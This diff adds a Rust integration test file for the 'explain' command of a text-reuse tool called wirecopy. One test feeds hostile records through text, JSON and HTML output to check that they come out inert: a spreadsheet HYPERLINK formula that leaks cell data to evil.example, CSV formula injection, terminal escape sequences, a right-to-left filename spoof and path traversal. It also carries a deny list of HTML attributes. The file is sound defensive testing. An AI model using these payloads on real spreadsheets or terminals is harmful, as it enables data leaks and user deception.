@@ -1,0 +1,183 @@
+//! The explain command as its users meet it; what it prints stands in `tests/golden/explain-*.toml`.
+
+use std::fs;
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+
+use serde_json::Value;
+use tempfile::TempDir;
+use wirecopy::text::escaping::is_unsafe;
+
+const HOSTILE: [[&str; 2]; 3] = [
+    [
+        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open me\")",
+        "@SUM(1+9)*cmd",
+    ],
+    [
+        "bees\u{1b}[1m\u{1b}]8;;https://evil.example\u{7}click",
+        "bees-\u{202e}gpj.exe",
+    ],
+    ["chess,\"1\"\n2", "../../../../tmp/chess"],
+];
+
+#[test]
+fn hostile_records_do_nothing_in_any_format() {
+    let file = data("bad/hostile.jsonl");
+    for [a, b] in HOSTILE {
+        for format in ["text", "json", "html"] {
+            for width in ["60", "160"] {
+                let told = explain(&[a, b, &file, "--format", format, "--width", width]);
+                assert_eq!(told.status.code(), Some(0), "{}", said(&told));
+                let printed = String::from_utf8(told.stdout).expect("UTF-8");
+                let raw = printed.chars().find(|&c| c != '\n' && is_unsafe(c));
+                assert_eq!(raw, None, "{a} as {format}");
+                if format == "html" {
+                    is_inert(&printed);
+                }
+            }
+        }
+    }
+}
+
+/// No element and no attribute but those of the template.
+fn is_inert(page: &str) {
+    const KNOWN: [&str; 16] = [
+        "html", "head", "body", "h1", "h2", "ul", "li", "table", "thead", "tbody", "tr", "th",
+        "td", "p", "span", "sup",
+    ];
+    let (_, body) = page.split_once("</style>").expect("a style");
+    for tag in body.split('<').skip(1) {
+        let name: String = tag
+            .trim_start_matches('/')
+            .chars()
+            .take_while(char::is_ascii_alphanumeric)
+            .collect();
+        assert!(KNOWN.contains(&&*name), "<{tag}");
+        let (attributes, _) = tag.split_once('>').expect("a tag ends");
+        for word in ["href", "src", "style=", " on"] {
+            assert!(!attributes.contains(word), "<{tag}");
+        }
+    }
+    assert!(page.contains("default-src 'none'"), "a policy");
+}
+
+#[test]
+fn a_page_goes_to_a_file_that_ends_so() {
+    let at = TempDir::new().expect("a directory");
+    let page = at.path().join("pair.html");
+    let file = data("newsroom.jsonl");
+    let target = page.display().to_string();
+    let told = explain(&["mn-0303-ruling", "tp-0304-ruling", &file, "-o", &target]);
+    assert_eq!(told.status.code(), Some(0), "{}", said(&told));
+    assert!(told.stdout.is_empty());
+    let page = fs::read_to_string(page).expect("the page");
+    assert!(page.starts_with("<!doctype html>"), "{page}");
+    is_inert(&page);
+    assert!(page.contains("<sup>1</sup>"), "passages are numbered");
+}
+
+#[test]
+fn two_text_files_are_enough() {
+    let at = TempDir::new().expect("a directory");
+    let text = "The ferry to the island will not sail on Monday, for the crew have gone to look for the moth that ate the flag.";
+    let names = ["one.txt", "two"].map(|name| at.path().join(name).display().to_string());
+    let [one, two] = &names;
+    fs::write(one, text).expect("a file");
+    fs::write(two, text.to_uppercase()).expect("a file");
+    let told = json(&[one, two]);
+    assert_eq!(told["relation"], "exact");
+    assert_eq!(told["documents"]["a"]["id"], **one);
+    // As they are named: nothing else is read.
+    assert_eq!(told["documents"]["b"]["file"], **two);
+}
+
+#[test]
+fn the_order_of_ids_does_not_matter() {
+    let file = data("newsroom.jsonl");
+    let one = json(&["mn-0303-ruling", "tp-0304-ruling", &file]);
+    assert_eq!(one, json(&["tp-0304-ruling", "mn-0303-ruling", &file]));
+    assert_eq!(one["scores"]["jaccard"], 0.5259);
+    assert_eq!(one["scores"]["containment_a"], 0.6758);
+    assert_eq!(one["scores"]["longest_passage"], 84);
+}
+
+#[test]
+fn documents_of_an_index_are_explained_too() {
+    let at = TempDir::new().expect("a directory");
+    let lines = fs::read_to_string(data("newsroom.jsonl")).expect("the newsroom");
+    let of_day = |day: &str| -> String {
+        let wanted = format!("-{day}-");
+        let is_wanted = |line: &&str| {
+            line.contains(&format!("\"id\": \"mn{wanted}"))
+                || line.contains(&format!("\"id\": \"tp{wanted}"))
+        };
+        lines
+            .lines()
+            .filter(is_wanted)
+            .map(|line| format!("{line}\n"))
+            .collect()
+    };
+    let path = |name: &str| at.path().join(name).display().to_string();
+    let [first, second, index] = ["first.jsonl", "second.jsonl", "news.index"].map(path);
+    fs::write(&first, of_day("0303")).expect("a file");
+    fs::write(&second, of_day("0304")).expect("a file");
+    let fixed = ["-q", "--keep-boilerplate", "--index", &index];
+    run(
+        "scan",
+        &[
+            &[first.as_str(), "-o", "/dev/null", "--format", "csv"],
+            &fixed[..],
+        ]
+        .concat(),
+    );
+
+    let ids = ["mn-0303-ruling", "tp-0304-ruling"];
+    let tonight = json(&[&ids[..], &[&second], &fixed[1..]].concat());
+    assert_eq!(tonight["written"], true);
+    assert_eq!(tonight["documents"]["a"]["file"], Value::Null);
+    assert_eq!(tonight["documents"]["b"]["file"], *second);
+
+    run(
+        "scan",
+        &[
+            &[second.as_str(), "-o", "/dev/null", "--format", "csv"],
+            &fixed[..],
+        ]
+        .concat(),
+    );
+    let later = json(&[&ids[..], &fixed[1..]].concat());
+    assert_eq!(later["written"], false);
+    assert_eq!(later["reasons"][0]["kind"], "seen_before");
+    // Clusters are as they were on its night.
+    for same in ["relation", "scores", "passages", "clusters"] {
+        assert_eq!(later[same], tonight[same], "{same}");
+    }
+}
+
+fn json(arguments: &[&str]) -> Value {
+    let told = explain(&[arguments, &["--format", "json"]].concat());
+    assert_eq!(told.status.code(), Some(0), "{}", said(&told));
+    serde_json::from_slice(&told.stdout).expect("JSON")
+}
+
+fn explain(arguments: &[&str]) -> Output {
+    run("explain", arguments)
+}
+
+fn run(command: &str, arguments: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_wirecopy"))
+        .arg(command)
+        .args(arguments)
+        .stdin(Stdio::null())
+        .output()
+        .expect("it runs")
+}
+
+fn said(output: &Output) -> String {
+    String::from_utf8_lossy(&output.stderr).into_owned()
+}
+
+fn data(name: &str) -> String {
+    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("data");
+    data.join(name).display().to_string()
+}
